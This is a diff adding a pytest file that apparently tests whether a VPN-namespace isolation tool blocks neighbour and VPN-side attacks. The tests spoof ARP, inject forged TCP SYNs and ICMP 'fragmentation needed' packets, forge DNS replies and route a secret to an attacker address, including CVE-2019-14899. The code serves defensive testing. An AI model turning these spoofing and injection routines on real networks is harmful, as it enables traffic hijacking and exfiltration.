@@ -1,0 +1,163 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""Attacks on a namespace that services share with a VPN client. Each succeeds
+without `attach` and fails with it; the attacker is a neighbour on the
+container's network, or the VPN."""
+import socket
+import struct
+
+import pytest
+
+from lab import container, probe
+from lab.host import until
+from lab.leak import SECRET, Ear
+from lab.sniff import (ETH_P_ARP, UDP, Sniffer, icmp_packet, inject,
+                       inject_tun, ip_packet, pton, tcp_packet, udp_packet)
+from lab.world import (A_VPN4, A_VPN6, B_VPN4, LAPTOP4, MALLORY4,
+                       wrong_answers)
+
+SYN, SYN_ACK = 0x02, 0x12
+
+
+class Scene:
+    def __init__(self, docker):
+        self.docker = docker
+        self.inner, self.mallet = docker.inside('vpn'), docker.inside('mallet')
+        self.v4, self.v6 = self.addresses('vpn')
+        self.m4, self.m6 = self.addresses('mallet')
+
+    def addresses(self, name):
+        net = self.docker.inspect(name)['NetworkSettings']
+        return net['IPAddress'], net['GlobalIPv6Address']
+
+    def mac(self, where):
+        return where.run('ip', '-br', 'link', 'show', 'eth0').stdout.split()[2]
+
+    def close(self):
+        self.inner.__exit__()
+        self.mallet.__exit__()
+
+
+@pytest.fixture(scope='module')
+def docker(world):
+    world.openvpn.give_a(extra='iroute 172.17.0.0 255.255.0.0\n'
+                         f'iroute {MALLORY4} 255.255.255.255\n')
+    engine = container.Docker(world.servera, f'{world.dir}/docker')
+    container.deployment(engine, world, options=(
+        *container.PORTS, '--sysctl', 'net.ipv4.ip_forward=1'))
+    engine.run('mallet', 'sleep', '1000', options=(
+        '--cap-add', 'NET_ADMIN', '--cap-add', 'NET_RAW'))
+    yield engine
+    engine.close()
+    world.openvpn.give_a()
+
+
+@pytest.fixture(params=['control', 'attached'])
+def scene(request, docker, sallyport):
+    """`succeeds` is what an attack must do here."""
+    scene = Scene(docker)
+    scene.succeeds = request.param == 'control'
+    if not scene.succeeds:
+        sallyport('attach', 'vpn', ok=True)
+    yield scene
+    scene.close()
+    if not scene.succeeds:
+        sallyport('detach', 'vpn', ok=True)
+
+
+@pytest.mark.parametrize('v', [4, 6])
+def test_a_neighbour_reaches_the_tunnels_address(world, scene, v):
+    """CVE-2019-14899: the weak host model."""
+    dst, via = (A_VPN4, scene.v4) if v == 4 else (A_VPN6, scene.v6)
+    scene.mallet.run('ip', f'-{v}', 'route', 'replace', dst, 'via', via)
+    got = probe.ask(scene.mallet, 'tcp', dst, 80, seconds=1)
+    assert got.answered == scene.succeeds
+
+
+def test_a_neighbour_learns_the_tunnels_address_by_arp(scene):
+    me = bytes.fromhex(scene.mac(scene.mallet).replace(':', ''))
+    with Sniffer(scene.mallet, 'eth0') as sniffer:
+        with scene.mallet.inside():
+            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+            s.bind(('eth0', 0))
+        with s:
+            for target in (A_VPN4, scene.v4):  # the second: proof of life
+                s.send(b'\xff' * 6 + me + struct.pack('!H', ETH_P_ARP) +
+                       struct.pack('!HHBBH6s4s6s4s', 1, 0x800, 6, 4, 1, me,
+                                   pton(scene.m4), bytes(6), pton(target)))
+
+        def told(target):
+            sniffer.seen()
+            return any(a[6:8] == b'\0\2' and a[14:18] == pton(target)
+                       for a in sniffer.arps)
+        until(lambda: told(scene.v4), 'its own address is told')
+        assert told(A_VPN4) == scene.succeeds
+
+
+def test_the_vpn_has_the_container_answer_a_neighbour(world, scene):
+    """A SYN through the tunnel in a neighbour's name."""
+    probe.tcp(scene.mallet, scene.v4, 80)  # neighbours know each other
+    with Sniffer(scene.mallet, 'eth0') as victim:
+        inject_tun(world.vpnsrv, 'tun0',
+                   tcp_packet(scene.m4, 4000, scene.v4, 80, SYN))
+        seen = victim.wait_for(lambda p: p.src == scene.v4 and
+                               p.flags == SYN_ACK and p.dport == 4000,
+                               20 if scene.succeeds else 1)
+    assert bool(seen) == scene.succeeds
+
+
+def test_the_vpn_spoils_the_path_to_the_laptop(world, scene):
+    """A forged "fragmentation needed" about the laptop's packets."""
+    quoted = ip_packet(scene.v4, LAPTOP4, UDP,
+                       struct.pack('!HHHH', 80, 5555, 8, 0))
+
+    def mtu():
+        inject_tun(world.vpnsrv, 'tun0', icmp_packet(
+            '192.0.2.1', A_VPN4, 3, 4, struct.pack('!HH', 0, 600), quoted))
+        return 'mtu 600' in scene.inner.run(
+            'ip', 'route', 'get', LAPTOP4, 'from', scene.v4).stdout
+    if scene.succeeds:
+        until(mtu, 'the path is spoilt', container.UP)
+        scene.inner.run('ip', 'route', 'flush', 'cache')
+    else:
+        assert [mtu() for _ in range(20)] == [False] * 20
+        assert wrong_answers(world, protos=('tcp',), families=(4,)) == []
+
+
+def test_a_vpn_peer_uses_the_container_as_a_router(world, scene):
+    def heard(ear):
+        inject_tun(world.vpnsrv, 'tun0',
+                   udp_packet(B_VPN4, 4444, MALLORY4, 4444, SECRET))
+        return ear.heard()
+    with Ear(world) as ear:
+        if scene.succeeds:
+            scene.inner.run('ip', 'route', 'replace', MALLORY4, 'via',
+                            '172.17.0.1')
+            until(lambda: heard(ear), 'it is forwarded', container.UP)
+        else:
+            assert [heard(ear) for _ in range(20)] == [[]] * 20
+    with Ear(world) as ear:  # the ear hears, whatever the container does
+        s = world.servera.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.sendto(SECRET, (MALLORY4, 4444))
+        s.close()
+        assert ear.wait_for(lambda p: p.payload == SECRET)
+
+
+@pytest.mark.parametrize('first', ['ours', 'theirs'])
+def test_a_neighbour_draws_a_question_out_of_the_tunnel(world, scene, first):
+    """It answers in the name server's stead, and what is asked next would come
+    to it: where the client asked first, it is not believed."""
+    server, asks = '172.20.0.30', 50053
+    s = scene.inner.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(('', asks))
+    if first == 'ours':
+        s.sendto(b'question', (server, 53))
+    inject(scene.mallet, 'eth0', scene.mac(scene.inner),
+           udp_packet(server, 53, scene.v4, asks, b'forged'))
+    until(lambda: s.recv(64) == b'forged' if probe._wait(
+        s, 1, probe.time.monotonic() + 1) else False, 'it arrives')
+    with Ear(world) as ear:
+        s.sendto(SECRET, (server, 53))
+        drawn = ear.heard() != []
+    s.close()
+    # A service that is asked first must answer by the door: it is no client.
+    assert drawn == (first == 'theirs' and not scene.succeeds)
